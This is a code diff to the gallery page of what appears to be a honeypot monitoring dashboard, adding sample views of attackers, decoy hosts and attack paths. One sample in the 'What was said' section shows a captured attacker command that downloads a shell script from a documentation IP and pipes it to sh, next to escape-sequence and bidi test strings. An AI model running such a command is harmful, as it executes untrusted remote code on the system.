@@ -27,7 +27,8 @@ use crate::{
         guide::Guide,
         icon::{Icon, Mark},
         line::Line,
-        loom::Loom,
+        loom::{Chosen, Loom},
+        metro::Metro,
         notice::{Empty, LeftOut, Loading, NothingFits, Problem},
         pager::{More, Pager},
         range::RangeMenu,
@@ -78,10 +79,14 @@ pub(crate) fn GalleryPage() -> impl IntoView {
         <Piece title="Glyphs">
             <p class="inline-form">
                 {(0..12)
-                    .map(|n| view! { <Glyph seed=format!("fingerprint {n}") size=32 /> })
+                    .map(|n| view! { <Glyph seed=sample::glyph(n) size=32 /> })
                     .collect_view()}
-                <Glyph seed="fingerprint 1".to_owned() size=72 />
-                <Glyph seed="fingerprint 1".to_owned() size=16 />
+                <Glyph seed=sample::glyph(1) size=72 />
+                <Glyph seed=sample::glyph(1) size=16 />
+            </p>
+            <p class="table-note">"One that nothing is known of, and what becomes of it with a name, with SSH, and with TLS:"</p>
+            <p class="inline-form">
+                {sample::growing().into_iter().map(|seed| view! { <Glyph seed size=32 /> }).collect_view()}
             </p>
         </Piece>
         <Piece title="States">
@@ -102,7 +107,7 @@ pub(crate) fn GalleryPage() -> impl IntoView {
             <div class="stats">
                 <StatCard label="Quiet" value=Signal::stored(0) note=Signal::stored("nothing yet".to_owned()) href="/gallery" hot=true />
                 <StatCard label="Hot" value=Signal::stored(48_213) note=Signal::stored("120 in the last hour".to_owned()) href="/gallery" hot=true />
-                <StatCard label="Ours" value=Signal::stored(20) note=Signal::stored("of 20 wanted".to_owned()) href="/gallery" />
+                <StatCard label="Ours" value=Signal::stored(20) note=Signal::stored("of 20 in the fleet".to_owned()) href="/gallery" />
             </div>
             <ShareBar value=30 most=100 />
         </Piece>
@@ -137,6 +142,14 @@ pub(crate) fn GalleryPage() -> impl IntoView {
                 total=Signal::stored(None)
             />
         </Piece>
+        <Piece title="The loom, of which a decky is chosen">
+            <Loom
+                known=Signal::stored(sample::attackers())
+                touches=Signal::stored(sample::touches())
+                total=Signal::stored(Some(40))
+                chosen=Chosen { ip: None, decky: Some("web-01".to_owned()) }
+            />
+        </Piece>
         <Piece title="The line">
             <Line
                 marks=Signal::stored(sample::marks())
@@ -155,6 +168,20 @@ pub(crate) fn GalleryPage() -> impl IntoView {
                 between=Between::default()
             />
         </Piece>
+        {sample::ways()
+            .into_iter()
+            .map(|(title, way)| {
+                view! {
+                    <Piece title=title>
+                        <Metro
+                            way=Memo::new(move |_| way.clone())
+                            changes=Memo::new(|_| sample::changes())
+                            logs="/live?attacker_ip=192.0.2.1".to_owned()
+                        />
+                    </Piece>
+                }
+            })
+            .collect_view()}
         <Piece title="What was said">
             <p><Said text="wget http://192.0.2.7/x.sh -O- | sh" /></p>
             <p><Said text="\u{202e}right to left\u{202c}, zero\u{200b}width, \u{1b}[31mred, <b>bold</b>" /></p>
@@ -266,7 +293,7 @@ pub(crate) fn GalleryPage() -> impl IntoView {
         <Piece title="Forms">
             <div class="form">
                 <label><span>"Text"</span><input placeholder="placeholder" /></label>
-                <label><span>"Choice"</span><select><option>"one"</option><option>"two"</option></select></label>
+                <label><span>"Choice"</span><span class="choice"><select><option>"one"</option><option>"two"</option></select><Mark icon=Icon::Down /></span></label>
                 <label><span>"Disabled"</span><input disabled value="value" /></label>
             </div>
             <FormFault fault=|| Some(sample::fault(FaultKind::Invalid)) />
